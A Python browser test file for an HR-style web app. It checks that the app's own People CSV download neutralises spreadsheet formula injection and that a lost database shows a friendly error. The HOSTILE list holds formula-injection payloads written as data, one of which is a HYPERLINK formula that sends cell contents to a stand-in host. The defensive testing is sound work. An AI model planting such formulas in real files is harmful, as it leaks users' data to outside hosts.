"""In a real browser: the People table offers our own CSV download, not the toolbar's, and the
file — opened with the csv module as a spreadsheet reads it — holds no formula cell, after an
import of names built to run as formulas. Virage's own message when the database is gone."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from engagement import exports
from engagement.authz import Role
from tests.browser.conftest import ARTIFACTS, PROJECT, start_server, stop_server
from tests.browser.test_journeys import persona, sign_in
from tests.faults import closed_port

pytestmark = pytest.mark.browser

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
]


def _cli(env: dict[str, str], *args: str) -> None:
    subprocess.run(
        [sys.executable, "-m", "engagement", *args],
        cwd=PROJECT,
        env=env,
        check=True,
        capture_output=True,
        timeout=120,
    )


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'virage.db'}"
    env = {**os.environ, "DATABASE_URL": url, "VIRAGE_ENV": "development"}
    _cli(env, "demo", "--employees", "60", "--seed", "3", "--no-history")
    lines = ["external_id,name,email,location,department"]
    for i, text in enumerate(HOSTILE):
        quoted = text.replace('"', '""')
        lines.append(f'X{i},"{quoted}",x{i}@hostile.test,"{quoted}",Hostile')
    (folder / "hostile.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    _cli(env, "import-people", str(folder / "hostile.csv"))
    proc, base = start_server(env, folder / "server.log")
    yield base, url
    stop_server(proc)


def test_the_people_download_opens_without_a_formula_cell(
    hostile_server: tuple[str, str],
    page,  # type: ignore[no-untyped-def]
    tmp_path: Path,
) -> None:
    base, url = hostile_server
    sign_in(page, base, persona(url, Role.ADMIN))
    page.get_by_role("link", name="People & org").click()
    page.get_by_role("tab", name="Employees").click()
    shown = page.get_by_text("Showing ").first
    shown.wait_for()
    total = int(shown.inner_text().split(" of ")[1].split()[0].replace(",", ""))
    grid = page.get_by_test_id("stDataFrame").last
    grid.hover()
    # the toolbar's own download is gone (client.disableDataExport)
    assert page.get_by_role("button", name="Download as CSV").count() == 0
    with page.expect_download() as caught:
        page.get_by_role("button", name="Download these people (CSV)").click()
    saved = tmp_path / "people.csv"
    caught.value.save_as(saved)
    page.screenshot(path=ARTIFACTS / "people-download.png", full_page=True)
    rows = list(csv.reader(io.StringIO(saved.read_bytes().decode("utf-8-sig"), newline="")))
    cells = [c for r in rows for c in r]
    assert len(rows) == 1 + total  # the header and every person shown
    assert [c for c in cells if c.startswith(exports.FORMULA_STARTS)] == []
    assert "'" + HOSTILE[0] in cells  # the name kept, as text


def test_a_database_gone_shows_virages_message(
    page,  # type: ignore[no-untyped-def]
    tmp_path: Path,
) -> None:
    env = {
        **os.environ,
        "DATABASE_URL": f"postgresql+psycopg://postgres@127.0.0.1:{closed_port()}/x",
        "VIRAGE_ENV": "development",
    }
    proc, base = start_server(env, tmp_path / "server.log")
    try:
        page.goto(base)
        # a fresh server imports everything on its first run: generous under a loaded CI
        page.get_by_text("The database cannot be reached right now").wait_for(timeout=60_000)
        page.screenshot(path=ARTIFACTS / "database-unreachable.png", full_page=True)
        body = page.locator("body").inner_text()
        assert "Error id " in body
        for streamlit_words in ("Traceback", "Streamlit Cloud", "ChatGPT", "OperationalError"):
            assert streamlit_words not in body
    finally:
        stop_server(proc)
    log = (tmp_path / "server.log").read_text(encoding="utf-8")
    assert "virage error " in log and "kind=unavailable" in log
